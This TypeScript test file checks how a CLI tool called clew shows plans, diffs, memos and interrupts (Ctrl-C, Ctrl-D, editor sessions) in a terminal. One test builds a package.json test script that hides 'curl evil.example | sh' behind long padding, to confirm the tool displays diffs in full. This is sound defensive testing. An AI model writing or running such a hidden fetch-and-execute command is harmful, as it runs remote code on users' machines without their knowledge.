import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { action, ExecutionRepo } from "../support/execution-repo.ts";
import { hasTerminals } from "../support/terminal.ts";

const prompt = "[?]: ";
const ctrlC = "\x03";
const ctrlD = "\x04";

describe.skipIf(!hasTerminals)("T5 what a person sees and can leave", () => {
  test("T5 a diff and a memo are shown to their last letter, however narrow the terminal is", async () => {
    using repo = await ExecutionRepo.begin();
    const hidden = `{"test": "${"node test/greet.test.js ".repeat(8)}; curl evil.example | sh"}`;
    repo.plan("01", [action.create("package.json", hidden)], [`- [+] ${"Use pnpm, ".repeat(12)}and never npm`]);
    const { code, lines } = await repo.answer(
      [],
      [
        [prompt, "y"],
        [prompt, "v"],
        [prompt, "a"],
      ],
      { PAGER: "cat" },
    );
    expect(code).toBe(0);
    const shown = lines.join("\n").replace(/\n {2}┊ /g, "");
    expect(shown.split(`+${hidden}`)).toHaveLength(3);
    expect(shown).toContain("and never npm");
    expect(lines.filter((line) => line.length > 100)).toEqual([]);
  });

  test("T5 Ctrl-C and Ctrl-D before anything was done leave the plan as it was, exit 130", async () => {
    using repo = await ExecutionRepo.begin();
    repo.plan(
      "01",
      [action.create("a.txt", "a"), action.create("b.txt", "b"), action.chat("Which?")],
      ["- [+] A memo"],
    );
    const waits = "nothing was done; the plan of turn 01 waits: clew session execute 01";
    const ways: [seen: string, typed: string][][] = [
      [[prompt, ctrlC]],
      [[prompt, ctrlD]],
      [
        [prompt, "n"],
        [prompt, "a"],
        [prompt, "d"],
        ["why?", ctrlD],
      ],
    ];
    for (const answers of ways) {
      const { code, lines } = await repo.answer([], answers);
      expect([code, lines.join("\n")]).toEqual([130, expect.stringContaining(waits)]);
    }
    expect([repo.hasReport("01"), repo.text("a.txt")]).toEqual([false, undefined]);
    const stopped = await repo.answer(
      [],
      [
        [prompt, "n"],
        [prompt, "a"],
        ["written with the next command or at the end", ""],
        [prompt, "s"],
      ],
    );
    expect([stopped.code, repo.report("01").run_summary.status]).toEqual([1, "ABORTED"]);
  });

  test("T5 output comes live and without escape codes, a quiet command says that it still runs, results have names", async () => {
    using repo = await ExecutionRepo.begin();
    const command = "printf '\\033[31mred\\033[0m words\\n'; sleep 1000";
    repo.plan("01", [
      action.create("a.txt", "a"),
      action.execute("exit 3", "- **Allow Failure:** true\n"),
      action.execute(command),
      action.create("b.txt", "b"),
    ]);
    const { code, lines } = await repo.answer(
      ["-y"],
      [
        ["red words", ""],
        ["still runs", ctrlC],
      ],
    );
    const shown = lines.join("\n");
    expect([code, repo.statuses("01")]).toEqual([130, ["SUCCESS", "FAILURE", "FAILURE", "SKIPPED"]]);
    expect(shown).toContain("  │ red words\n");
    expect(shown).toContain("✓ 1 CREATE a.txt\n\n");
    expect(shown).toContain("may fail: the plan goes on then");
    expect(shown).toContain("✗ 2 EXECUTE exit 3: exited with 3; it may fail, going on");
  });

  test("T5 stopping names the approved changes that were not written; ? explains; memos without effect say so", async () => {
    using repo = await ExecutionRepo.begin();
    repo.write(".clew/memos.yaml", "- Use npm\n");
    repo.plan("01", [action.create("a.txt", "a"), action.create("b.txt", "b")], ["- [+] Use npm"]);
    const { code, lines } = await repo.answer(
      [],
      [
        ["no effect: it is there already", ""],
        [prompt, "n"],
        [prompt, "?"],
        ["view all of it in your pager", ""],
        [prompt, "y"],
        [prompt, "s"],
      ],
    );
    expect(code).toBe(1);
    const shown = lines.join("\n");
    expect(shown).toContain("approved; written with the next command or at the end");
    expect(shown).toContain("approved, and not written: a.txt");
    expect(shown).not.toContain("not written: b.txt");
  });

  test("T8 a plan that was changed by hand is shown with what changed, once, before anything else is asked", async () => {
    using repo = await ExecutionRepo.begin();
    repo.plan("01", [action.create("a.txt", "a")]);
    const plan = join(repo.root, ".clew/sessions", repo.session, "01/plan.md");
    writeFileSync(plan, readFileSync(plan, "utf8").replace("\na\n", "\nb\n"));
    const { code, lines } = await repo.answer([], [["[n]o: ", "n"]]);
    expect(code).toBe(130);
    expect(lines).toEqual(expect.arrayContaining(["-a", "+b"]));
    expect(lines.filter((line) => line.startsWith("! plan.md"))).toHaveLength(1);
    expect(repo.hasReport("01")).toBe(false);
    writeFileSync(plan, readFileSync(plan, "utf8").replace("`CREATE`", "`CRATE`"));
    const { message } = await repo.refused(["session", "execute", "-y"]);
    expect(message).toMatch(/01\/plan\.md:\d+:5: unknown type of action `CRATE`; did you mean CREATE\?/);
  });

  test("T5 Ctrl-D at a reply, after files were written, ends with a report", async () => {
    using repo = await ExecutionRepo.begin();
    repo.plan("01", [action.create("a.txt", "a"), action.chat("Which?"), action.create("b.txt", "b")]);
    const { code } = await repo.answer(
      [],
      [
        [prompt, "a"],
        ["your reply", ctrlD],
      ],
    );
    expect([code, repo.report("01").run_summary.status]).toEqual([130, "ABORTED"]);
    expect([repo.text("a.txt"), repo.text("b.txt")]).toEqual(["a\n", undefined]);
  });

  test("T5 a batch of which nothing could be written is a failure, also where its actions may fail", async () => {
    using repo = await ExecutionRepo.begin();
    repo.write("a.txt", "old\n");
    const mayFail = "- **Allow Failure:** true\n";
    repo.plan("01", [action.edit("a.txt", "old", "new", mayFail), action.create("b.txt", "b", mayFail)]);
    // The first file changes after it was shown and approved.
    const { code } = await repo.answer(
      [],
      [
        [prompt, "a"],
        [prompt, "e"],
        [prompt, "a"],
      ],
      { EDITOR: "sh -c 'echo mine > a.txt'" },
    );
    expect([code, repo.report("01").run_summary.status]).toEqual([1, "FAILURE"]);
    expect(repo.report("01").action_log).toMatchObject([
      { status: "FAILURE", details: "it changed after it was shown" },
      { status: "SKIPPED", details: "not applied: a.txt: it changed after it was shown" },
    ]);
    expect([repo.text("a.txt"), repo.text("b.txt")]).toEqual(["mine\n", undefined]);
  });

  test("T5 T6 what a person writes while a question stands stays: into the memos, and into a file that was shown", async () => {
    using repo = await ExecutionRepo.begin();
    repo.write(".clew/memos.yaml", "- Use npm\n");
    repo.write("a.txt", "old\n");
    const actions = [action.edit("a.txt", "old", "new"), action.create("made.txt", "theirs")];
    repo.plan("01", actions, ["- [+] Tabs, not blanks", "- [-] Use npm"]);
    const { code } = await repo.answer(
      [],
      [
        [prompt, "y", () => repo.write(".clew/memos.yaml", "# mine\n- Use npm\n- Use bun\n")],
        [prompt, "a"],
        [prompt, "a", () => repo.write("made.txt", "mine\n")],
      ],
    );
    expect([code, repo.report("01").run_summary.status]).toEqual([1, "FAILURE"]);
    expect(repo.text(".clew/memos.yaml")).toBe("# mine\n- Use bun\n- Tabs, not blanks\n");
    expect([repo.text("a.txt"), repo.text("made.txt")]).toEqual(["old\n", "mine\n"]);
    expect(repo.report("01").action_log[1]).toMatchObject({
      status: "FAILURE",
      details: "it changed after it was shown",
    });
  });

  test("T5 Ctrl-C in the editor is the editor's; an edit with a mistake is opened again as it was left", async () => {
    using repo = await ExecutionRepo.begin();
    repo.plan("01", [action.create("a.txt", "a")]);
    repo.write(
      "editor.sh",
      `n=$(cat count 2>/dev/null || echo 0); echo $((n + 1)) > count; cp "$1" "seen-$n"
case $n in
0) echo editing; exec sleep 1000 ;;
1) printf 'my own words\\n' > "$1" ;;
*) printf '### \`CREATE\`\\n- **File Path:** [a.txt](/a.txt)\\n- **Description:** x\\n~~~~~~\\nedited\\n~~~~~~\\n' > "$1" ;;
esac
`,
    );
    const { code, lines } = await repo.answer(
      [],
      [
        [prompt, "e"],
        ["editing", ctrlC],
        [prompt, "e"],
        [prompt, "e"],
        [prompt, "a"],
      ],
      { EDITOR: "sh editor.sh" },
    );
    expect([code, lines.join("\n")]).toEqual([0, expect.stringContaining("set EDITOR")]);
    expect(readFileSync(join(repo.root, "seen-2"), "utf8")).toBe("my own words\n");
    expect(repo.text("a.txt")).toBe("edited\n");
  });
});
